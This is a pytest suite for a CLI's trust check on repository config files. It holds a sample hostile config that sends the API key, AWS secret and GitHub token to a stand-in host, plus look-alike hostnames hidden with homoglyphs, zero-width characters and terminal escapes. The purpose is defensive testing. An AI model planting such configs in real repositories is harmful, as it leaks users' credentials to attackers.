"""A hostile repository against every command, and ``embedcore trust`` itself."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from embedcore.testing import FakeOpenAI

HOST = "stranger.example"
SECRETS = {
    "OPENAI_CUSTOM_HEADERS": "X-Ambient: CANARY-of-the-client",
    "OPENAI_API_KEY": "sk-CANARY-of-the-user-0123456789",
    "AWS_SECRET_ACCESS_KEY": "CANARY-of-the-cloud-0123456789",
    "GITHUB_TOKEN": "CANARY-of-the-forge-0123456789",
}
# The name of the stranger's server leads to this machine in every process of the test.
RESOLVER = f"""
import socket
genuine = socket.getaddrinfo
def resolve(host, *more, **named):
    return genuine("127.0.0.1" if host in ({HOST!r}, {HOST.encode()!r}) else host, *more, **named)
socket.getaddrinfo = resolve
"""
COMMANDS = [
    ["embed", "-c", "a secret text"],
    ["embed", "texts.jsonl", "-o", "out.npy", "--yes"],
    ["batch", "submit", "texts.jsonl", "--yes"],
    ["batch", "status"],
    ["batch", "resume"],
    ["batch", "gc"],
    ["cache"],
    ["cache", "probe"],
    ["usage"],
    ["budget"],
    ["config", "--explain"],
    ["doctor"],
]


@pytest.fixture
def stranger(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[FakeOpenAI]:
    """Somebody else's server under a name of its own, and secrets in the environment."""
    (tmp_path / "sitecustomize.py").write_text(RESOLVER)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    with FakeOpenAI(api_key=None) as server:
        yield server


def attack(server: FakeOpenAI) -> str:
    port = server.base_url.rpartition(":")[2]
    return (
        'model = "openai:text-embedding-3-small"\n'
        "\n"
        "[options.openai]\n"
        f'base_url = "http://{HOST}:{port}"\n'
        'headers = { "X" = "$AWS_SECRET_ACCESS_KEY" }\n'
        'organization = "$GITHUB_TOKEN"\n'
        "allow_plaintext = true\n"
    )


def seen(server: FakeOpenAI) -> str:
    return repr([(one.path, dict(one.headers), one.body) for one in server.requests])


@pytest.mark.case("D1")
@pytest.mark.parametrize("name", ["embedcore.toml", "pyproject.toml"])
def test_a_hostile_repository_is_told_nothing_by_any_command(shell, stranger, texts_file, name):
    text = attack(stranger)
    if name == "pyproject.toml":
        text = text.replace("[options.", "[tool.embedcore.options.")
        text = f"[tool.embedcore]\n{text}"
    Path(".git").mkdir()
    file = Path(name).absolute()
    file.write_text(text)
    line = text.splitlines().index(next(one for one in text.splitlines() if "base_url" in one)) + 1
    folder = Path("docs/inner")
    folder.mkdir(parents=True)
    os.chdir(folder)
    texts_file(3)
    for command in COMMANDS:
        run = shell(*command)
        if command == ["doctor"]:
            assert run.code == 1
            assert "sets options.openai.base_url" in run.out
        else:
            assert run.code == 2, (command, run)
            assert f"{file} sets options.openai.base_url (line {line})" in run.err
            assert f"embedcore trust {file}" in run.err
            assert f"EMBEDCORE_CONFIG={file}" in run.err
        assert not any(secret in run.out + run.err for secret in SECRETS.values())
    assert stranger.requests == []


@pytest.mark.case("D1")
def test_the_same_server_is_reached_once_the_user_says_so(shell, stranger):
    """The attack above would have worked: the file is sound, and the server there."""
    plain = attack(stranger).replace('organization = "$GITHUB_TOKEN"\n', "")
    Path("embedcore.toml").write_text(plain)
    assert shell("embed", "-c", "a text").code == 2
    assert stranger.requests == []
    run = shell("embed", "-c", "a text", EMBEDCORE_CONFIG="embedcore.toml")
    assert run.code == 0, run.err
    assert SECRETS["OPENAI_API_KEY"] in seen(stranger)
    assert SECRETS["AWS_SECRET_ACCESS_KEY"] in seen(stranger)
    assert shell("trust", "embedcore.toml", "--yes").code == 0
    assert shell("embed", "-c", "another text").code == 0
    assert len(stranger.requests) == 2
    organization = shell("embed", "-c", "x", EMBEDCORE_CONFIG=str(organized(stranger)))
    assert organization.code == 2
    assert "organization of provider 'openai'" in organization.err
    assert SECRETS["GITHUB_TOKEN"] not in seen(stranger)


def organized(server: FakeOpenAI) -> Path:
    path = Path("organized.toml")
    path.write_text(attack(server))
    return path


@pytest.mark.case("D1")
@pytest.mark.parametrize("model", ["openai:text-embedding-3-small", "docs"])
def test_a_server_on_this_machine_gets_texts_and_no_key(shell, stranger, model):
    """``docs`` is a profile. The key goes where the user sends it, and nowhere else."""
    place = f'base_url = "{stranger.base_url}"\n'
    text = f"[options.openai]\n{place}"
    if model == "docs":
        text = f'[profiles.docs]\nmodel = "openai:text-embedding-3-small"\noptions = {{ {place} }}'
        text = text.replace("\n }", " }")
    Path("embedcore.toml").write_text(f'model = "{model}"\n{text}')
    run = shell("embed", "-c", "a text", "--verbose")
    assert run.code == 0, run.err
    assert "a text" in seen(stranger)
    assert "CANARY" not in seen(stranger)
    assert "OPENAI_API_KEY is set and was not sent" in run.err
    run = shell("embed", "-c", "another text", OPENAI_BASE_URL=stranger.base_url)
    assert run.code == 0, run.err
    assert SECRETS["OPENAI_API_KEY"] in seen(stranger), "the user named the address"


@pytest.mark.case("D1")
def test_where_a_key_is_missed_the_reason_is_said(shell, stranger, monkeypatch):
    with FakeOpenAI(api_key=SECRETS["OPENAI_API_KEY"]) as own:
        Path("embedcore.toml").write_text(f'options.openai.base_url = "{own.base_url}"')
        run = shell("embed", "-c", "a text")
        assert run.code == 1, run.err
        assert "OPENAI_API_KEY is set and was not sent" in run.err
        assert "embedcore trust" in run.err
        assert shell("trust", "embedcore.toml", "--yes").code == 0
        assert shell("embed", "-c", "a text").code == 0


@pytest.mark.case("D3")
def test_under_a_policy_a_found_file_evades_nothing(shell, stranger, monkeypatch, state_home):
    policy = Path("policy.toml").absolute()
    policy.write_text("[budget.all_scopes]\nmonthly_cost_limit = 1\n")
    monkeypatch.setenv("EMBEDCORE_POLICY", str(policy))
    monkeypatch.setenv("OPENAI_BASE_URL", stranger.base_url)
    for line in (
        'home = "./fresh"',
        'scope = "another"',
        "options.openai.price = 0",
        'cache_dir = "."',
    ):
        Path("embedcore.toml").write_text(f"{line}\n")
        run = shell("embed", "-c", "a text")
        assert run.code == 2
        assert f"sets {line.partition(' ')[0]} (line 1)" in run.err
    assert stranger.requests == []
    assert not Path("fresh").exists()


@pytest.mark.case("D2")
@pytest.mark.skipif(os.name != "posix", reason="permissions of POSIX")
def test_a_file_that_others_could_have_written_ends_with_2(shell, stranger, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", stranger.base_url)
    file = Path("embedcore.toml")
    file.write_text("[budget]\ndaily_token_limit = 1\n")
    file.chmod(0o666)
    run = shell("embed", "-c", "a text")
    assert run.code == 2
    assert "can be changed by everybody (chmod o-w)" in run.err
    assert shell("trust", "embedcore.toml", "--yes").code == 2
    if os.geteuid() == 0:
        file.chmod(0o644)
        os.chown(file, 65534, 65534)
        run = shell("embed", "-c", "a text")
        assert run.code == 2
        assert "belongs to another user (uid 65534)" in run.err
    assert stranger.requests == []


@pytest.mark.case("D2")
def test_a_pyproject_above_the_repository_is_not_looked_at(shell, stranger, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", stranger.base_url)
    limits = "model = 'openai:other'\n[tool.embedcore.budget]\ntotal_cost_limit = 0\n"
    Path("pyproject.toml").write_text(f"[tool.embedcore]\n{limits}")
    Path("repository").mkdir()
    Path("repository/.git").write_text("gitdir: ../elsewhere\n")
    above = Path("pyproject.toml").absolute()
    os.chdir("repository")
    run = shell("embed", "-c", "a text")
    assert run.code == 0, run.err
    assert f"{above} sets limits, and they do not hold here" in run.err
    found = shell("doctor", "--json").json["findings"]
    assert any(one["name"] == "limits" and str(above) in one["value"] for one in found)


# The command


GATEWAY = 'model = "m"\n[options.openai]\nbase_url = "https://gateway.example/v1"\n'


def listed(cli: Callable[..., object]) -> list[tuple[str, str]]:
    return [(one["path"], one["state"]) for one in cli("trust", "--list", "--json").json["files"]]


def test_it_shows_records_lists_and_revokes(cli):
    file = Path("embedcore.toml").absolute()
    file.write_text(
        GATEWAY + 'api_key = "$TEAM_KEY"\nprice = 0\nheaders = { A = "plain-CANARY" }\n'
    )
    shown = cli("trust", "embedcore.toml", "--yes")
    assert shown.code == 0, shown.err
    rows = shown.out.splitlines()
    assert rows[0] == f"{file} sets:"
    assert [row.split()[:2] for row in rows[2:6]] == [
        ["3", "options.openai.base_url"],
        ["4", "options.openai.api_key"],
        ["5", "options.openai.price"],
        ["6", "options.openai.headers.A"],
    ]
    assert "https://gateway.example/v1  your texts, and keys of your environment, go" in rows[2]
    assert "$TEAM_KEY (not set)" in rows[3]
    assert "CANARY" not in shown.out
    assert "It is trusted from now on" in shown.out
    assert listed(cli) == [(str(file), "trusted")]
    assert "It is trusted already" in cli("trust", str(file)).out
    assert f"{file}: options.openai.base_url" in cli("trust", "--list").out
    file.write_text(GATEWAY)
    assert listed(cli) == [(str(file), "changed")]
    file.chmod(0o666)
    assert listed(cli) == [(str(file), "trusted" if os.name != "posix" else "unusable")]
    file.unlink()
    assert listed(cli) == [(str(file), "gone")]
    assert cli("trust", "embedcore.toml", "--revoke").code == 0
    assert listed(cli) == []
    again = cli("trust", "embedcore.toml", "--revoke")
    assert (again.code, "was not trusted" in again.out) == (1, True)
    assert cli("trust", "--list").out == "no file is trusted\n"


@pytest.mark.case("D1")
@pytest.mark.parametrize(
    ("host", "shown"),
    [
        ("\u0430pi.openai.com", r"\u0430pi.openai.com"),
        ("api.openai.com\u200b.evil.example", r"api.openai.com\u200b.evil.example"),
        ("api.openai.com\u202e", r"api.openai.com\u202e"),
        ("api.openai.com\x1b[2K", r"api.openai.com\x1b[2K"),
        ("127.0.0.1\u3002evil.example", r"127.0.0.1\u3002evil.example"),
    ],
)
@pytest.mark.parametrize(
    "place",
    [
        "options.openai.base_url = ",
        'profiles.p.model = "m"\nprofiles.p.options.base_url = ',
    ],
)
def test_an_address_that_looks_like_another_is_shown_as_what_it_is(cli, host, shown, place):
    Path("embedcore.toml").write_text(place + json.dumps(f"https://{host}/v1"))
    said = cli("trust", "embedcore.toml", "--yes")
    assert said.code == 0, said.err
    assert f"https://{shown}/v1" in said.out
    assert f"https://{shown}/v1" in cli("config", "--explain").out


def test_what_needs_no_trust_is_not_recorded(cli):
    Path("embedcore.toml").write_text('model = "m"\n')
    run = cli("trust", "embedcore.toml")
    assert (run.code, run.out.strip().endswith("sets nothing that needs trust")) == (0, True)
    assert listed(cli) == []


def test_without_a_terminal_it_records_nothing_unasked_and_says_what_ci_needs(cli, monkeypatch):
    file = Path("embedcore.toml").absolute()
    file.write_text(GATEWAY)
    run = cli("trust", "embedcore.toml")
    assert run.code == 2
    assert "Nothing was recorded" in run.out
    assert listed(cli) == []
    answer = cli("trust", "embedcore.toml", "--json")
    assert answer.code == 2
    assert answer.json["trusted"] is False
    assert answer.json["settings"] == [
        {
            "setting": "options.openai.base_url",
            "line": 3,
            "value": "https://gateway.example/v1",
            "allowed_without": False,
        }
    ]
    name, _, value = answer.json["variable"].partition("=")
    assert f"{name}={value}" in run.out
    assert cli("config").code == 2
    monkeypatch.setenv(name, value)
    assert cli("config").code == 0
    assert cli("trust", "embedcore.toml").code == 0
    assert value in cli("trust", "--list").out


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 2), ("", 2)])
def test_on_a_terminal_it_asks_and_no_other_command_does(terminal, cli, answer, code):
    Path("embedcore.toml").write_text(GATEWAY)
    other = terminal("config")
    assert other.close() == 2
    assert "[y/N]" not in other.plain
    screen = terminal("trust", "embedcore.toml")
    screen.wait_for(r"Trust this file to set them\? \[y/N\]")
    screen.send(f"{answer}\r")
    assert screen.close() == code
    assert len(listed(cli)) == (code == 0)


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ([], "name one FILE, or --list"),
        (["x.toml", "--list"], "name one FILE, or --list"),
        (["--list", "--revoke"], "name one FILE, or --list"),
        (["--revoke"], "name one FILE, or --list"),
        (["other.toml"], "is not a file that is looked for"),
        (["embedcore.toml"], "there are no settings of embedcore in"),
        (["pyproject.toml"], "there are no settings of embedcore in"),
        (["wrong/embedcore.toml"], "did you mean 'model'"),
        (["torn/embedcore.toml"], "is not valid TOML"),
    ],
)
def test_what_cannot_be_trusted_is_refused(cli, arguments, said):
    Path("pyproject.toml").write_text("[tool.other]\n")
    for folder, text in (("wrong", "modle = 1"), ("torn", "a = [")):
        Path(folder).mkdir()
        Path(folder, "embedcore.toml").write_text(text)
    run = cli("trust", *arguments)
    assert run.code == 2
    assert said in run.err


def test_without_a_home_folder_it_names_the_variable(shell):
    Path("embedcore.toml").write_text(GATEWAY)
    run = shell("trust", "embedcore.toml", "--yes", HOME="", XDG_CONFIG_HOME="")
    assert run.code == 2
    assert "EMBEDCORE_TRUST=" in run.err


def test_config_and_doctor_show_what_may_do_what(cli, monkeypatch):
    file = Path("embedcore.toml").absolute()
    file.write_text('model = "hashing:64"\n')
    monkeypatch.setenv("EMBEDCORE_SCOPE", "team")

    def standings() -> dict[str, str | None]:
        return {one["path"]: one["trust"] for one in cli("config", "--json").json["settings"]}

    found = standings()
    assert (found["model"], found["scope"], found["overlong"]) == ("found", "named", None)
    assert "TRUST" in cli("config", "--explain").out
    assert "(found, not named: may set no address elsewhere and no key)" in cli("doctor").out
    file.write_text(GATEWAY)
    cli("trust", "embedcore.toml", "--yes")
    assert standings()["options.openai.base_url"] == "trusted"
    shown = cli("doctor").out
    assert "(found, and trusted by you: may set everything)" in shown
    assert f"{file} (trusted: options.openai.base_url)" in shown
    monkeypatch.setenv("EMBEDCORE_CONFIG", str(file))
    assert standings()["model"] == "named"
    assert "(named by you: may set everything)" in cli("doctor").out
    assert json.loads(json.dumps(standings()))
